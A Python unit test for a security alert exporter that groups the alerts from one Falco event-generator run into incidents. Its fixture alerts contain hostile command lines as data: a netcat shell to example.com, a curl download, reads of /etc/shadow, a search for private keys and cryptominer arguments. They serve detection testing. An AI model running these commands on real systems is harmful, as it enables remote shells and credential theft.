"""The event generator's system calls: one run is one incident, wherever it runs."""

from __future__ import annotations

import pytest

from exporter.alert import Alert, Priority
from exporter.catalog.shipped import ShippedCatalog
from exporter.incidents.register import join_all
from exporter.incidents.tactics import tactics_by_rule
from tests.unit.incidents.made import BEGIN_NS

CATALOG = ShippedCatalog()
OWN = {"proc.name": "event-generator", "proc.cmdline": "event-generator run syscall", "proc.pname": "bash",
       "proc.exepath": "/usr/local/bin/event-generator"}  # fmt: skip


def child(name: str, line: str, path: str) -> dict[str, str]:
    """A program that the generator starts."""
    return {"proc.name": name, "proc.cmdline": line, "proc.exepath": path, "proc.pname": "event-generator"}


ACTIONS: dict[str, dict[str, str]] = {
    "Clear Log Activities": OWN | {"fd.name": "/tmp/falco-event-generator-syscall-ClearLogActivities-321/syslog"},
    "Read sensitive file untrusted": OWN | {"fd.name": "/etc/shadow"},
    "Write below etc": OWN | {"fd.name": "/etc/falco-event-generator-syscall-WriteBelowEtc-3821"},
    "Run shell untrusted": child("sh", "sh -c ls > /dev/null", "/usr/bin/dash")
    | {
        "proc.pname": "httpd",
        "proc.pcmdline": "httpd --loglevel info run ^helper.RunShell$",
        "proc.aname[2]": "event-generator",
    },
    "Search Private Keys or Passwords": child("find", "find / -maxdepth 1 -iname id_rsa", "/usr/bin/find"),
    "Execution from /dev/shm": child(
        "sh", "sh -c /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-1.sh", "/usr/bin/dash"
    )
    | {"evt.res": "SUCCESS"},
    "Fileless execution via memfd_create": child("3", "3 run helper.DoNothing", "memfd:program")
    | {"evt.res": "SUCCESS"},
    "Detect release_agent File Container Escapes": OWN | {"fd.name": "/tmp/x/release_agent"},
    "PTRACE attached to process": OWN | {"evt.type": "ptrace"},
    "Create Symlink Over Sensitive Files": child("ln", "ln -s /etc /tmp/event-generator/etc_link", "/usr/bin/ln"),
    "Drop and execute new binary in container": child(
        "falco-event-gen",
        "falco-event-generator-syscall-Drop run helper.DoNothing",
        "/tmp/falco-event-generator-syscall-Drop",
    ),
    "Netcat Remote Code Execution in Container": child("nc", "nc -e /bin/sh example.com 22", "/bin/nc"),
    "Launch Ingress Remote File Copy Tools in Container": child(
        "curl", "curl -s http://example.com -o /tmp/x", "/usr/bin/curl"
    ),
    "System user interactive": child("login", "login daemon", "/usr/bin/login"),
    "Modify Shell Configuration File": OWN | {"fd.name": "/home/x/.bashrc"},
    "Schedule Cron Jobs": child("crontab", "crontab -l", "/usr/bin/crontab"),
    "Delete or rename shell history": OWN,
    "User mgmt binaries": child("vipw", "vipw", "/usr/sbin/vipw"),
    "Known Cryptominer Process Executed": child("echo", "echo -o stratum+tcp -u user -p pass", "/bin/echo"),
    "Set Setuid or Setgid bit": OWN,
}
PLACES = {
    "pod": {
        "container.id": "5138f37ab5ef", "container.name": "event-generator", "k8s.pod.name": "event-generator-x2kq4",
        "container.image.repository": "docker.io/falcosecurity/event-generator", "k8s.ns.name": "event-generator",
        "user.loginuid": "-1", "proc.tty": "0",
    },
    "session": {"container.id": "host", "user.loginuid": "1000", "proc.tty": "34816"},
    "login without a terminal": {"container.id": "host", "user.loginuid": "1000", "proc.tty": "0"},
    "daemon": {"container.id": "host", "user.loginuid": "-1", "proc.tty": "0"},
}  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
def test_a_run_of_all_actions_is_at_most_three_incidents(place: str) -> None:
    """Every kind of place ties what one run does; a pod's image makes it a test as a whole."""
    user = {"user.name": "root", "user.uid": "0"}
    alerts = [
        Alert(
            BEGIN_NS + number * 2 * 10**9,
            rule,
            Priority.NOTICE,
            "syscall",
            "node-1",
            rule,
            user | fields | PLACES[place],
            (),
        )
        for number, (rule, fields) in enumerate(ACTIONS.items())
    ]
    found = join_all(alerts, 14_400, judge=CATALOG.judge.judge, tactics_of=tactics_by_rule(CATALOG))
    assert 1 <= len(found) <= 3
    if place == "pod":
        assert [(each.verdict, each.count) for each in found] == [("test", len(ACTIONS))]
